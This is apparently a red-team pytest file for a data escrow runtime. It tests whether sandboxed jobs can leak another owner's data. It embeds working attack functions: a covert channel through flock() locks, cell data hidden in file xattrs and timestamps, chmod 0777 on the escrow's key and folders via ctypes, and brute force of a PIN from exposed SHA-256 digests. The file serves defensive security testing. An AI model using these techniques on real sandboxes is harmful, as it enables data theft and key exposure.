"""Round 5 of the red team: full-trust confinement between jobs, the server's reads and the
lifecycle. Attacks played from the documentation only, through the `Escrow` facade (the harness
`World`), `dsc` and `dsc serve`. A test that shows a real hole is `xfail(strict=True)`."""

import threading
import time

import pytest

from rt_support import SECRET_CSV, SECRET_TEXT, Scenario, COPY_FUNCS
from rt_support import refusal_code as _code
from rt_support import two_jobs_dsc

# -- 1. two jobs at once: a file lock on a file both children may read --------------------------

LOCK_FUNCS = '''
import fcntl
import os
import time

NBITS = 64


def _files():
    d = os.path.dirname(os.__file__)
    names = sorted(n for n in os.listdir(d) if n.endswith(".py"))
    return [os.path.join(d, n) for n in names[: NBITS + 1]]


def leak(t) -> int:
    """Returns the row count; meanwhile shows the first 8 bytes of a cell through file locks."""
    bits = int.from_bytes(str(t.iloc[0]["name"]).encode()[:8].ljust(8, b"\\0"), "big")
    held = []
    files = _files()
    for i in range(NBITS):
        if bits >> (NBITS - 1 - i) & 1:
            f = open(files[i + 1], "rb")
            fcntl.flock(f.fileno(), fcntl.LOCK_EX)
            held.append(f)
    sync = open(files[0], "rb")
    fcntl.flock(sync.fileno(), fcntl.LOCK_EX)
    time.sleep(4)
    return len(t)


def _locked(path):
    f = open(path, "rb")
    try:
        fcntl.flock(f.fileno(), fcntl.LOCK_SH | fcntl.LOCK_NB)
        return False
    except OSError:
        return True
    finally:
        f.close()


def listen(d) -> str:
    """mallory's own contract on mallory's own data: waits for the signal, decodes it."""
    files = _files()
    deadline = time.time() + 20
    while time.time() < deadline:
        if _locked(files[0]):
            bits = 0
            for i in range(NBITS):
                bits = bits << 1 | _locked(files[i + 1])
            return bits.to_bytes(8, "big").rstrip(b"\\0").decode("latin1")
        time.sleep(0.05)
    return ""
'''

LOCK_DSC = two_jobs_dsc("leak", "listen")


def _outbox_text(sc, who: str) -> str:
    d = sc.world.config.outbox_path / who
    return "".join(p.read_bytes().decode("latin1") for p in d.rglob("*") if p.is_file()) if d.is_dir() else ""


def test_a_job_cannot_signal_data_to_a_concurrent_job_through_file_locks(tmp_path):
    """mallory proposes `count_rows`, a harmless-looking contract over alice's table released to
    alice only; alice approves and runs it. Its function also takes `flock()` locks on files of the
    Python library (which every full-trust child may open read-only), one file per bit of a cell.
    At the same moment mallory's own contract `mine` (over mallory's own data: only mallory
    approves it) runs in another child of the same escrow and tests those locks with `LOCK_NB`,
    decoding the bits into its result, released to mallory. Neither Landlock (locks are not file
    accesses it governs), seccomp (flock is allowed) nor the audit hook (reading the library is
    allowed) stops it: 64 bits per few seconds, noiselessly, from any job to any concurrent job
    (another contract, another proposer), so alice's data reaches mallory without alice ever
    approving a release to her. The promise: nothing but the approved result leaves a job."""
    sc = Scenario(tmp_path, {"f.py": LOCK_FUNCS, "s.dsc": LOCK_DSC, "t.csv": SECRET_CSV, "d.csv": "x\n1\n"})
    try:
        w = sc.world
        victim = w.propose("count_rows", "mallory")
        w.approve(victim.id, "alice")
        spy = w.propose("mine", "mallory")
        w.approve(spy.id, "mallory")  # mallory's own data: nobody else decides
        reports = {}
        listener = threading.Thread(target=lambda: reports.setdefault("spy", w.execute(spy.id, "mallory")))
        listener.start()
        time.sleep(0.5)
        reports["victim"] = w.execute(victim.id, "alice")
        listener.join(60)
        assert reports["victim"].status.value in ("executed", "error")  # closed: flock() is refused
        leaked = _outbox_text(sc, "mallory")
        assert SECRET_TEXT[:8] not in leaked, leaked
    finally:
        sc.close()


# -- 2. the plaintext sha256 of a kept result (and of other owners' data) in data listings -------

PIN_FUNCS = '''
def pin_of(a, b) -> int:
    return int(b["pin"].iloc[0])
'''

PIN_DSC = '''use "f.py"
agent alice
agent bob
data alice.t csv "t.csv"
data bob.p csv "p.csv"

contract mk { by alice keep joined = pin_of(a = alice.t, b = bob.p) }
'''

PIN = 4821
PIN_CSV = f"pin\n{PIN}\n"


def _brute_force_pin(hashes) -> int | None:
    """A 4-digit PIN from a plaintext sha256: of the kept value (`serialize.to_bytes`) or of the file."""
    from rt_support import brute_force_value, sha

    for h in hashes:
        found = brute_force_value(h, range(10000))
        if found is not None:
            return found
        for v in range(10000):
            if sha(f"pin\n{v}\n".encode()) == h:
                return v
    return None


def test_a_co_owner_cannot_recover_a_kept_result_from_its_digest_over_the_server(tmp_path):
    """alice and bob approve `mk`, which keeps `joined` computed from alice's table and bob's
    4-digit PIN (the value stays in the escrow: nobody receives it). The server's `read.data`
    (`Client.data_list()`) shows alice 'kept results derived from its data', with the kept
    contents' plaintext sha256 (and size): alice hashes the 10,000 candidates the documented
    `serialize.to_bytes` would store and finds bob's PIN, which no contract released to her.
    docs/security.md: no plaintext sha256 of a kept result reaches the server's reads; the
    plaintext hash goes only to whoever may see the plaintext."""
    from rt_support import hashes_in
    from serving import Served

    s = Served(tmp_path / "site")
    try:
        alice, bob = s.agent("alice"), s.agent("bob")
        (tmp_path / "f.py").write_text(PIN_FUNCS)
        (tmp_path / "s.dsc").write_text(PIN_DSC)
        (tmp_path / "t.csv").write_text(SECRET_CSV)
        (tmp_path / "p.csv").write_text(PIN_CSV)
        alice.add_data("alice.t", tmp_path / "t.csv")
        bob.add_data("bob.p", tmp_path / "p.csv")
        cid = alice.propose(tmp_path / "s.dsc", "mk")["contract"]["id"]
        alice.approve(cid)
        bob.approve(cid)
        assert alice.execute(cid)["status"] == "executed"
        seen = hashes_in(alice.data_list()) | hashes_in(alice.status(cid)) | hashes_in(alice.audit(contract=cid))
        assert _brute_force_pin(seen) is None
    finally:
        s.stop()


def test_a_party_cannot_recover_another_owners_small_file_from_dsc_data_list(tmp_path):
    """On the escrow's machine every party may read `dsc status` and `dsc log` (the threat model),
    and `dsc data list` needs no key at all (`--as` changes nothing): it prints every data element
    with the plaintext sha256 of its contents, bob's file included, and the kept result `joined`
    too. alice (or anyone) hashes `pin\\nNNNN\\n` for the 10,000 PINs and finds bob's, exactly
    the brute force H2 closed for the audit log. docs/security.md says the plaintext sha256 goes
    only to an owner about its own data."""
    from rt_support import hashes_in

    sc = Scenario(tmp_path, {"f.py": PIN_FUNCS, "s.dsc": PIN_DSC, "t.csv": SECRET_CSV, "p.csv": PIN_CSV})
    try:
        sc.run("mk", "alice", ("alice", "bob"), "alice")
        seen = set()
        for args in (("data", "list", "--format", "json"), ("data", "list", "--format", "json", "--as", "alice")):
            code, out = sc.cli(*args)
            if code == 0:
                seen |= hashes_in(__import__("json").loads(out))
        assert _brute_force_pin(seen) is None
    finally:
        sc.close()


# -- 3. a hand approval that outlives a failed attempt and cannot be withdrawn -------------------

GATED_DSC = '''use "f.py"
agent alice
agent mallory
data alice.t csv "t.csv"

contract grab {
  by      mallory
  compute copy(t = alice.t)
  to      mallory
  require rows(alice.t) > 2
}
'''


def test_an_owner_can_withdraw_consent_before_a_failed_contract_runs_again(tmp_path):
    """alice approves mallory's `grab` (a copy of alice.t, only if it has more than 2 rows) while
    alice.t holds a harmless sample of 2 rows: the `require` fails, nothing runs. alice then
    replaces alice.t with her real table (allowed: no pending or approved contract uses it) and,
    to be safe, tries to reject or revoke `grab`: both are refused (`closed`). mallory proposes
    `grab` again: the new attempt is `approved` at once with alice's old signature (escrow.md:
    approvals carry over after an attempt that ran and released nothing, 'except the approval of
    an agent who rejected the contract after approving it', a rejection the escrow does not let
    her make) and mallory executes it before alice hears of it: the whole real table goes to
    mallory. The promise holds only if an owner can withdraw its consent between attempts."""
    sc = Scenario(tmp_path, {"f.py": COPY_FUNCS, "s.dsc": GATED_DSC, "t.csv": "name,amount\nsample,1\nsample2,2\n"})
    try:
        w = sc.world
        row = w.propose("grab", "mallory")
        w.approve(row.id, "alice")
        assert w.execute(row.id, "mallory").status.value == "failed"
        from datastation.runtime.escrow import DATA_ADD
        from datastation.runtime.escrow.data import data_add_params

        body = (SECRET_CSV + "carol,1\n").encode()
        params = data_add_params("alice.t", "csv", body)
        params["replace"] = True
        w.escrow.add_data(w.escrow.sign_as("alice", DATA_ADD, params), body)
        withdrawn = [_code(lambda: w.reject(row.id, "alice", "changed my mind")),
                     _code(lambda: w.revoke(row.id, "alice"))]
        _code(lambda: w.propose("grab", "mallory"))
        _code(lambda: w.execute(row.id, "mallory"))
        leaked = _outbox_text(sc, "mallory")
        assert SECRET_TEXT not in leaked, (withdrawn, leaked[:80])
    finally:
        sc.close()


# -- 4. file metadata Landlock does not govern: a later job reads what an earlier one left -------

META_FUNCS = '''
import ctypes
import os


class _TS(ctypes.Structure):
    _fields_ = [("s", ctypes.c_long), ("ns", ctypes.c_long)]


def _target():
    return os.path.join(os.path.dirname(os.__file__), "this.py").encode()


def leave(t) -> int:
    """Returns the row count; leaves a cell in the metadata of a library file every child reads."""
    libc = ctypes.CDLL(None, use_errno=True)
    cell = str(t.iloc[0]["name"]).encode()
    libc.setxattr(_target(), b"user.rt5", cell, len(cell), 0)
    stamp = int.from_bytes(cell[:4], "big")  # 4 bytes fit a time stamp
    libc.utimensat(-100, _target(), (_TS * 2)(_TS(stamp, 0), _TS(stamp, 0)), 0)
    return len(t)


def pick_up(d) -> list:
    """mallory's own contract, later: reads the metadata back."""
    libc = ctypes.CDLL(None, use_errno=True)
    buf = ctypes.create_string_buffer(256)
    n = libc.getxattr(_target(), b"user.rt5", buf, 256)
    stamp = os.stat(_target().decode()).st_mtime_ns // 10**9
    return [buf.raw[:max(n, 0)].decode("latin1"), stamp.to_bytes(8, "big").lstrip(b"\\0").decode("latin1")]
'''

META_DSC = two_jobs_dsc("leave", "pick_up")


def test_a_later_job_cannot_read_what_an_earlier_job_left_in_file_metadata(tmp_path):
    """mallory's `count_rows` over alice's table (released to alice only; alice approves and
    runs it) calls the C library to set an extended attribute (`setxattr`) and the time stamps
    (`utimensat`) of a file of the Python library, which the child may read but not write:
    Landlock does not govern file metadata and seccomp allows both calls. Later, mallory's own
    contract `mine` (her own data, her approval only) reads them back (`getxattr`, `stat`) and
    releases the cell to mallory. Like SysV shared memory (H9), but it outlives the escrow
    itself (it is on disk), and it works for any file the escrow's Unix user owns (root here:
    every file). Impact: any job leaves data for any later job of any proposer."""
    import os

    target = os.path.join(os.path.dirname(os.__file__), "this.py")
    before = os.stat(target)
    sc = Scenario(tmp_path, {"f.py": META_FUNCS, "s.dsc": META_DSC, "t.csv": SECRET_CSV, "d.csv": "x\n1\n"})
    try:
        w = sc.world
        victim = w.propose("count_rows", "mallory")
        w.approve(victim.id, "alice")
        assert w.execute(victim.id, "alice").status.value == "executed"
        spy = w.propose("mine", "mallory")
        w.approve(spy.id, "mallory")
        w.execute(spy.id, "mallory")
        leaked = _outbox_text(sc, "mallory")
        assert SECRET_TEXT not in leaked and f'"{SECRET_TEXT[:4]}"' not in leaked, leaked
    finally:
        sc.close()
        os.utime(target, ns=(before.st_atime_ns, before.st_mtime_ns))
        try:
            os.removexattr(target, "user.rt5")
        except OSError:
            pass


# -- 5. file modes: a job opens the escrow's folders and key to every Unix user ------------------

CHMOD_FUNCS = '''
import ctypes

ESCROW = "{escrow}"  # the deployment's documented path (/var/lib/datastation/escrow): known to the proposer


def tally(t) -> int:
    libc = ctypes.CDLL(None, use_errno=True)
    for p in ("", "/escrow_key.pem", "/storage", "/store.db", "/escrow.db", "/outbox"):
        libc.chmod((ESCROW + p).encode(), 0o777)
    return len(t)
'''

CHMOD_DSC = '''use "f.py"
agent alice
agent mallory
data alice.t csv "t.csv"

contract count_rows { by mallory compute tally(t = alice.t) to alice }
'''


def test_a_job_cannot_change_the_modes_of_the_escrows_files(tmp_path):
    """The escrow's folder is 0700 and its signing key 0600 (security.md, server.md: 'run it as
    its own user'): other Unix users of the machine read nothing. A function (here mallory's
    `count_rows`, approved and run by alice) calls `chmod()` through the C library on the escrow's
    folder and key, whose path the deployment documents: Landlock governs opening files, not
    their modes, and seccomp allows chmod. Afterwards the escrow directory and key are 0777:
    every local account reads the stored data, the outboxes and the signing key (and the escrow
    refuses to start while its key is readable by others)."""
    import stat

    escrow = tmp_path / "escrow"
    sc = Scenario(tmp_path, {"f.py": CHMOD_FUNCS.replace("{escrow}", str(escrow)), "s.dsc": CHMOD_DSC,
                             "t.csv": SECRET_CSV})
    try:
        before = {p: stat.S_IMODE(p.stat().st_mode) for p in [escrow, *escrow.iterdir()]}
        row = sc.world.propose("count_rows", "mallory")
        sc.world.approve(row.id, "alice")
        sc.world.execute(row.id, "alice")
        after = {p: stat.S_IMODE(p.stat().st_mode) for p in before}
        assert after == before, {str(p.name): oct(m) for p, m in after.items() if m != before[p]}
    finally:
        sc.close()


def test_a_non_owner_cannot_learn_which_data_elements_exist_by_removing_them(tmp_path):
    """Removing another agent's data element is refused by its name alone: an element that
    exists and one that does not answer the same code, so a party learns no other owner's
    data names (found while attacking round 5: `no_data` vs `not_owner`)."""
    from datastation.runtime.escrow import DATA_REMOVE

    sc = Scenario(tmp_path, {"f.py": LOCK_FUNCS, "s.dsc": LOCK_DSC, "t.csv": SECRET_CSV, "d.csv": "x\n1\n"})
    try:
        e = sc.world.escrow
        codes = [_code(lambda k=k: e.remove_data(e.sign_as("mallory", DATA_REMOVE, {"key": k})))
                 for k in ("alice.t", "alice.nothing_by_that_name")]
        assert codes == ["not_owner", "not_owner"], codes
        assert _code(lambda: e.remove_data(e.sign_as("mallory", DATA_REMOVE, {"key": "mallory.none"}))) == "no_data"
    finally:
        sc.close()
